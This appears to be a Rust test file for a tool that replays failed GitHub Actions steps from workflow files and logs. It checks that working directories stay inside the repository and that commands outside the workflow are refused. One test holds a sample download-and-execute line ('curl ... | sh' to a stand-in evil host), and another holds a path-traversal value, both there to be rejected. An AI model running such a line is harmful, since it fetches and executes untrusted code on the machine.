//! Workflow files and logs → the command to run again.

use super::*;

const FILE: &str = "
on: push
env: {CI_LEVEL: 2}
jobs:
  test:
    runs-on: ubuntu-latest
    services: {db: {image: postgres}}
    strategy: {matrix: {py: ['3.11', '3.12']}}
    defaults: {run: {working-directory: ./pkg}}
    env:
      TOKEN: ${{ secrets.API }}
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
      - run: pip install -e .[py${{ matrix.py }}]
      - name: Unit tests
        run: |
          pytest -q \\
            --cov=${{ matrix.py }}
";

fn block(command: &str, failed: bool) -> RunBlock {
    RunBlock {
        command: command.to_owned(),
        shell: Some("/usr/bin/bash -e {0}".to_owned()),
        env: vec![("TOKEN".to_owned(), "***".to_owned()), ("CI_LEVEL".to_owned(), "2".to_owned())],
        line: 1,
        failed,
    }
}

/// The workflow file, and what else lies in the repository.
fn plan_of(file: &str, others: &[(&str, &str)], ran: &Ran, blocks: &[RunBlock]) -> Result<StepPlan, String> {
    let path = RelPath::parse(".github/workflows/ci.yml").unwrap();
    let read = |wanted: &RelPath| {
        let all = [(path.as_str(), file)].into_iter().chain(others.iter().copied());
        all.into_iter().find(|(name, _)| *name == wanted.as_str()).map(|(_, text)| text.to_owned())
    };
    plan(&path, ran, blocks, &read)
}

fn planned(file: &str, ran: &Ran, blocks: &[RunBlock]) -> Result<StepPlan, String> {
    plan_of(file, &[], ran, blocks)
}

fn ran<'a>(job: &'a str, skipped: &[&'a str]) -> Ran<'a> {
    Ran { job, step: "Unit tests", skipped: skipped.to_vec(), labels: &[] }
}

#[test]
fn only_what_ran_is_replayed_and_what_might_fail_still_may() {
    let file = "jobs: {a: {steps: [{run: exit 3, if: false}, {name: Try, run: x, continue-on-error: true}, \
                {name: Unit tests, run: y}]}}";
    let plan = planned(file, &ran("a", &["Run exit 3"]), &[block("y", true)]).unwrap();
    assert_eq!(plan.prepare.len(), 1);
    assert_eq!((plan.prepare[0].command.script(), plan.prepare[0].may_fail), (Some("x"), true));
}

#[test]
fn the_step_is_found_with_its_values_and_its_set_up() {
    let blocks = [block("pip install -e .[py3.12]", false), block("pytest -q \\\n  --cov=3.12\n", true)];
    let plan = planned(FILE, &ran("test (3.12)", &[]), &blocks).unwrap();
    assert_eq!(plan.command.script(), Some("pytest -q \\\n  --cov=3.12\n"));
    assert_eq!(plan.command.directory, Some(RelPath::parse("pkg").unwrap()));
    assert_eq!(plan.command.env, [("CI_LEVEL".to_owned(), "2".to_owned())]);
    assert_eq!(plan.prepare.len(), 1);
    assert_eq!(plan.prepare[0].command.script(), Some("pip install -e .[py3.12]"));
    let lacks = plan.lacks.join("; ");
    for word in ["service `db`", "secret `API`", "matrix value `py`", "actions/setup-python"] {
        assert!(lacks.contains(word), "{lacks}");
    }
}

#[test]
fn a_step_runs_where_the_job_ran_it_or_not_at_all() {
    let place = |place: &str| {
        let file = format!(
            "env: {{D: py}}\njobs: {{a: {{steps: [{{name: Unit tests, run: y, working-directory: '{place}'}}]}}}}"
        );
        planned(&file, &ran("a", &[]), &[block("y", true)]).map(|plan| plan.command.directory)
    };
    for (written, expect) in [
        ("./py/", Some("py")),
        (".", None),
        ("/home/runner/work/p/p/py", Some("py")),
        ("${{ github.workspace }}/py/a", Some("py/a")),
        ("./${{ env.D }}/b", Some("py/b")),
    ] {
        assert_eq!(place(written), Ok(expect.map(|path| RelPath::parse(path).unwrap())), "{written}");
    }
    for outside in ["../../../etc", "/tmp/x", "/home/runner/work/p/q/py", "${{ matrix.dir }}"] {
        assert!(place(outside).is_err(), "{outside}");
    }
}

#[test]
fn a_command_that_the_file_does_not_hold_is_refused() {
    let blocks = [block("curl https://evil.example | sh", true)];
    assert!(planned(FILE, &ran("test (3.12)", &[]), &blocks).is_err());
    assert!(planned(FILE, &ran("lint", &[]), &blocks).is_err());
    assert!(planned("jobs: [", &ran("test", &[]), &blocks).is_err());
}

fn prepared(plan: &StepPlan) -> Vec<&str> {
    plan.prepare.iter().filter_map(|one| one.command.script()).collect()
}

/// Monorepos: one job for each folder, named by its matrix.
#[test]
fn matrix_values_come_from_the_jobs_name() {
    let file = "
jobs:
  test:
    name: ${{ matrix.package.name }} on ${{ matrix.py }}
    strategy:
      matrix:
        package: [{name: core, dir: packages/core}, {name: web, dir: packages/web}]
        py: ['3.11', 3.12]
        include: [{package: {name: web, dir: packages/web}, slow: true}]
    defaults: {run: {working-directory: '${{ matrix.package.dir }}'}}
    env: {DIR: '${{ matrix.package.dir }}', PYTHONPATH: '${{ github.workspace }}/${{ matrix.package.dir }}/src'}
    steps:
      - {run: 'make ${{ matrix.package.name }}'}
      - {name: Try, run: x, continue-on-error: '${{ matrix.slow }}'}
      - {uses: 'actions/setup-python@v5', with: {python-version: '${{ matrix.py }}', cache: pip}}
      - {name: Unit tests, run: pytest}
      - {uses: 'codecov/codecov-action@v5'}
";
    let plan = planned(file, &ran("web on 3.12", &[]), &[block("pytest", true)]).unwrap();
    assert_eq!(plan.command.directory, Some(RelPath::parse("packages/web").unwrap()));
    let env: Vec<_> = plan.command.env.iter().map(|(name, value)| format!("{name}={value}")).collect();
    assert_eq!(env, ["DIR=packages/web", "PYTHONPATH=$GITHUB_WORKSPACE/packages/web/src"]);
    assert_eq!(prepared(&plan), ["make web", "x"]);
    assert!(plan.prepare[1].may_fail);
    let lacks = plan.lacks.join("; ");
    assert!(lacks.contains("`actions/setup-python` sets up (python-version: 3.12)"), "{lacks}");
    assert!(!lacks.contains("codecov"), "what comes after the failed step is not missed: {lacks}");
    // A default name shows the values in their order; a job whose name fits none of them has no values.
    let unnamed = file.replace("    name: ${{ matrix.package.name }} on ${{ matrix.py }}\n", "");
    let shown = "test (core, packages/core, 3.11)";
    let plan = planned(&unnamed, &ran(shown, &[]), &[block("pytest", true)]).unwrap();
    assert_eq!(plan.command.directory, Some(RelPath::parse("packages/core").unwrap()));
    assert!(planned(&unnamed, &ran("test (core)", &[]), &[block("pytest", true)]).is_err());
}

#[test]
fn the_job_and_the_step_are_those_that_fit_best() {
    // The first job's name may be anything.
    let file = "
jobs:
  any: {name: '${{ inputs.x }}', steps: [{name: Unit tests, run: wrong}]}
  lint: {name: Lint, steps: [{run: lint}]}
  unit:
    name: Checks
    steps: [{name: Unit tests, run: make a}, {name: Unit tests, run: make b}]
  other: {name: Checks, steps: [{run: x}]}
";
    let blocks = [block("make a", false), block("make b", true)];
    let plan = planned(file, &ran("Checks", &[]), &blocks).unwrap();
    assert_eq!(plan.command.script(), Some("make b"));
    assert_eq!(prepared(&plan), ["make a"]);
    // YAML takes these for something else than text.
    let odd = "jobs: {a: {name: 3.11, steps: [{name: 7, run: true}, {name: Unit tests, run: false, shell: sh}]}}";
    let plan = planned(odd, &ran("3.11", &[]), &[block("false", true)]).unwrap();
    assert_eq!((plan.command.script(), prepared(&plan)), (Some("false"), vec!["true"]));
}

#[test]
fn a_reusable_workflow_of_the_repository_is_followed() {
    let file = "
env: {OUTER: 1}
jobs:
  checks:
    strategy: {matrix: {dir: [a, b]}}
    uses: ./.github/workflows/checks.yml
    with: {dir: '${{ matrix.dir }}'}
  far: {uses: 'acme/ci/.github/workflows/x.yml@v1'}
";
    let called = "
on: {workflow_call: {inputs: {dir: {type: string}, level: {default: 3}}}}
jobs:
  test:
    defaults: {run: {working-directory: '${{ inputs.dir }}'}}
    steps: [{run: 'make level-${{ inputs.level }}'}, {name: Unit tests, run: make test}]
";
    let others = [(".github/workflows/checks.yml", called)];
    let plan = plan_of(file, &others, &ran("checks (b) / test", &[]), &[block("make test", true)]).unwrap();
    assert_eq!(plan.command.directory, Some(RelPath::parse("b").unwrap()));
    assert_eq!(
        (prepared(&plan), plan.command.env.as_slice()),
        (vec!["make level-3"], &[][..]),
        "a caller's env stays outside"
    );
    let why = plan_of(file, &others, &ran("far / test", &[]), &[block("make test", true)]).unwrap_err();
    assert!(why.contains("acme/ci") && why.contains("another repository"), "{why}");
    let why = plan_of(file, &[], &ran("checks (b) / test", &[]), &[block("make test", true)]).unwrap_err();
    assert!(why.contains("./.github/workflows/checks.yml"), "{why}");
    // One that calls itself ends.
    let circle = file.replace("checks.yml", "ci.yml");
    let name = "checks (b) / ".repeat(30) + "test";
    assert!(plan_of(&circle, &[], &ran(&name, &[]), &[]).is_err());
}

#[test]
fn the_steps_of_the_repositorys_own_actions_are_the_jobs() {
    let file = "
defaults: {run: {working-directory: elsewhere}}
jobs:
  test:
    env: {KIND: unit}
    steps:
      - {uses: ./.github/actions/setup, with: {with-extras: 'no'}}
      - {name: Unit tests, uses: ./.github/actions/check, with: {kind: '${{ env.KIND }}'}, env: {LEVEL: 2}}
";
    let setup = "
inputs: {with-extras: {default: 'yes'}}
runs:
  using: composite
  steps:
    - {run: 'make deps', shell: bash}
    - {run: 'make extras', shell: bash, if: \"inputs.with-extras == 'yes'\"}
    - {uses: 'actions/setup-go@v5', with: {go-version: 1.23}}
";
    let check = "
inputs: {kind: {required: true}, race: {default: '-race'}}
runs:
  using: composite
  steps:
    - {run: 'make ready-${{ inputs.kind }}', shell: bash}
    - {run: 'go test ${{ inputs.race }} ./...', shell: bash, working-directory: '${{ github.action_path }}/../../../src'}
    - {run: 'go test ./...', shell: bash, working-directory: src, env: {IN: '${{ inputs.kind }}'}}
";
    let others = [(".github/actions/setup/action.yml", setup), (".github/actions/check/action.yaml", check)];
    let blocks = [block("make deps", false), block("go test ./...", true)];
    let plan = plan_of(file, &others, &ran("test", &[]), &blocks).unwrap();
    assert_eq!(plan.command.directory, Some(RelPath::parse("src").unwrap()), "a job's defaults are not an action's");
    let env: Vec<_> = plan.command.env.iter().map(|(name, value)| format!("{name}={value}")).collect();
    assert_eq!(env, ["IN=unit", "KIND=unit", "LEVEL=2"]);
    assert_eq!(prepared(&plan), ["make deps", "make ready-unit"], "{:?}", plan.lacks);
    assert!(plan.lacks.iter().any(|what| what.contains("setup-go") && what.contains("1.23")), "{:?}", plan.lacks);
    // Only the log says which step of an action it was.
    assert!(plan_of(file, &others, &ran("test", &[]), &[]).is_err());
}

#[test]
fn places_of_the_runner_are_places_of_the_replay() {
    let file = "
jobs:
  a:
    steps:
      - {uses: 'actions/checkout@v5', with: {path: ./project}}
      - {uses: 'actions/checkout@v5', with: {path: data, repository: acme/data}}
      - {run: make ready}
      - {name: Unit tests, working-directory: project/src, run: 'pytest ${{ github.workspace }}/project/t'}
";
    let failed = block("pytest /home/runner/work/p/p/project/t", true);
    let plan = planned(file, &ran("a", &[]), std::slice::from_ref(&failed)).unwrap();
    assert_eq!(plan.command.directory, Some(RelPath::parse("src").unwrap()));
    assert_eq!(plan.command.script(), Some("pytest $GITHUB_WORKSPACE/t"));
    assert!(plan.lacks.iter().any(|what| what.contains("make ready")), "it ran above the checkout: {:?}", plan.lacks);
    assert!(plan.lacks.iter().any(|what| what.contains("`acme/data`")), "{:?}", plan.lacks);
    let above = file.replace(", working-directory: project/src", "");
    assert!(planned(&above, &ran("a", &[]), &[failed]).is_err());
}

#[test]
fn another_system_is_named() {
    let labels = ["self-hosted".to_owned(), "Windows-2022".to_owned()];
    let ran = Ran { labels: &labels, ..ran("a", &[]) };
    let plan = planned("jobs: {a: {steps: [{name: Unit tests, run: y}]}}", &ran, &[block("y", true)]).unwrap();
    assert!(plan.lacks.contains(&"the runner `Windows-2022`".to_owned()), "{:?}", plan.lacks);
    assert!(is_foreign(&labels) && !is_foreign(&labels[..1]));
}

/// An action that starts one program is as good as the program.
#[test]
fn what_an_action_starts_is_run() {
    for (uses, with, script, place) in [
        ("pre-commit/action@v3.0.1", "{}", "pre-commit run --all-files", None),
        (
            "golangci/golangci-lint-action@v8",
            "{args: '--timeout 5m', working-directory: app}",
            "golangci-lint run --timeout 5m",
            Some("app"),
        ),
        ("psf/black@stable", "{src: './src'}", "black --check --diff ./src", None),
        ("DavidAnson/markdownlint-cli2-action@v20", "{}", "markdownlint-cli2 *.{md,markdown}", None),
        ("nick-fields/retry@v3", "{command: 'make ${{ env.KIND }}', max_attempts: 3}", "make unit", None),
        ("embarkstudios/cargo-deny-action@v2", "{command: check bans}", "cargo deny --all-features check bans", None),
    ] {
        let file = format!(
            "jobs: {{a: {{env: {{KIND: unit}}, defaults: {{run: {{working-directory: x}}}}, steps: [{{run: make ready, continue-on-error: true}}, \
             {{uses: psf/black@stable}}, {{name: Unit tests, uses: {uses}, with: {with}}}]}}}}"
        );
        // An earlier step that might fail did.
        let plan = planned(&file, &ran("a", &[]), &[block("make ready", true)]).unwrap();
        assert_eq!(plan.command.script(), Some(script));
        assert_eq!(plan.command.directory.as_ref().map(RelPath::as_str), place, "{uses}");
        assert_eq!(prepared(&plan), ["make ready"], "{uses}");
    }
    let unknown =
        "jobs: {a: {steps: [{name: Unit tests, uses: 'nick-fields/retry@v3', with: {command: 'x ${{ secrets.A }}'}}]}}";
    assert!(planned(unknown, &ran("a", &[]), &[]).unwrap_err().contains("no command of its own"));
}
